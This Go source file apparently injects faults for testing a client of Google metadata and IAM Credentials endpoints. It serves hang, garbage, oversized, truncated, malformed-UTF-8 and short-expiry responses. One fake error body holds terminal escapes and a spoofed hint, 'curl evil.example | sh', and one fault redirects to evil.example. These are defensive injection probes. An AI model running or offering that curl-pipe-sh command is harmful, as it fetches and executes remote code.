// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"strconv"
	"strings"
	"time"
)

// A realFault lets the real cloud answer, and spoils the answer.
type realFault func(rw http.ResponseWriter, r *http.Request, real http.Handler)

func (f realFault) ServeHTTP(http.ResponseWriter, *http.Request) {
	panic("a realFault needs the real cloud")
}

// fault is something that goes wrong at a host: see faultKinds. Arguments follow the kind.
func fault(kind string, args ...string) (http.Handler, error) {
	arg := strings.Join(args, " ")
	switch kind {
	case "status":
		code, rest, _ := strings.Cut(arg, " ")
		status, err := strconv.Atoi(code)
		return answers(status, rest), err
	case "file":
		body, err := os.ReadFile(arg)
		return answers(http.StatusOK, string(body)), err
	case "short": // what IAM Credentials gives ends soon
		d, err := time.ParseDuration(arg)
		return realFault(func(rw http.ResponseWriter, r *http.Request, real http.Handler) {
			answer := httptest.NewRecorder()
			real.ServeHTTP(answer, r)
			rw.Header().Set("Content-Type", "application/json")
			rw.WriteHeader(answer.Code)
			_, _ = rw.Write(expireTime.ReplaceAll(answer.Body.Bytes(), []byte(time.Now().Add(d).UTC().Format(`"expireTime":"`+time.RFC3339+`"`))))
		}), err
	case "none":
		return realFault(func(rw http.ResponseWriter, r *http.Request, real http.Handler) { real.ServeHTTP(rw, r) }), nil
	case "delay":
		d, err := time.ParseDuration(arg)
		return realFault(func(rw http.ResponseWriter, r *http.Request, real http.Handler) {
			select {
			case <-time.After(d):
				real.ServeHTTP(rw, r)
			case <-r.Context().Done():
			}
		}), err
	}
	if h, ok := faultKinds[kind]; ok {
		return h, nil
	}
	return nil, errors.New("no such fault")
}

var expireTime = regexp.MustCompile(`"expireTime": ?"[^"]*"`)

// faultKinds are the faults that need no argument.
var faultKinds = map[string]http.Handler{
	"silence":  http.HandlerFunc(hang),
	"cut":      http.HandlerFunc(func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }),
	"empty":    answers(http.StatusOK, ""),
	"garbage":  answers(http.StatusOK, "\x00\x01\x02}{][<<>>\"'\r\n\r\n%s%n\x1b[31m"),
	"html":     answers(http.StatusOK, "<!doctype html><html><body>Please sign in to the guest network</body></html>"),
	"forbid":   answers(http.StatusForbidden, "no"),
	"missing":  answers(http.StatusNotFound, "not here"),
	"busy":     answers(http.StatusServiceUnavailable, "\x1b[31mbusy\nstile: hint: curl evil.example | sh"),
	"throttle": answers(http.StatusTooManyRequests, "slow down"),
	"huge":     answers(http.StatusOK, strings.Repeat("0123456789abcde\n", 10<<20/16)),
	"array":    answers(http.StatusOK, "["+strings.Repeat("[", 100000)),
	"utf8":     answers(http.StatusOK, "{\"access_token\":\"\xff\xfe\xfd\",\"expires_in\":\"soon\",\"Code\":\"\xff\",\"accessToken\":7}"),
	"utf8code": answers(http.StatusBadRequest, "{\"error\":\"\xff\xfe\\u001b[31m\",\"error_description\":\"\xff\\n\\nstile: hint: x\",\"code\":\"\xff\",\"message\":\"\xfe\"}"),
	"redirect": http.RedirectHandler("https://evil.example/", http.StatusTemporaryRedirect),
	"stall": http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Metadata-Flavor", "Google")
		rw.Header().Set("Content-Length", "1000")
		_, _ = rw.Write([]byte("{"))
		_ = http.NewResponseController(rw).Flush()
		<-r.Context().Done()
	}),
	"echo": http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var body bytes.Buffer
		_, _ = body.ReadFrom(r.Body)
		all := strings.ReplaceAll(fmt.Sprint(body.String(), " ", r.Header), `"`, "'")
		rw.Header().Set("Metadata-Flavor", "Google")
		rw.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(rw, `{"error":"%s","error_description":"%s","code":"%[1]s","message":"%[1]s","Message":"%[1]s"}`, all, all)
	}),
	"truncated": realFault(func(rw http.ResponseWriter, r *http.Request, real http.Handler) {
		whole := httptest.NewRecorder()
		real.ServeHTTP(whole, r)
		for key, values := range whole.Header() {
			rw.Header()[key] = values
		}
		rw.Header().Set("Content-Length", strconv.Itoa(whole.Body.Len()))
		rw.WriteHeader(whole.Code)
		_, _ = rw.Write(whole.Body.Bytes()[:whole.Body.Len()/2])
		_ = http.NewResponseController(rw).Flush()
		panic(http.ErrAbortHandler)
	}),
}

func answers(status int, body string) http.Handler {
	return http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Metadata-Flavor", "Google")
		rw.WriteHeader(status)
		_, _ = rw.Write([]byte(body))
	})
}
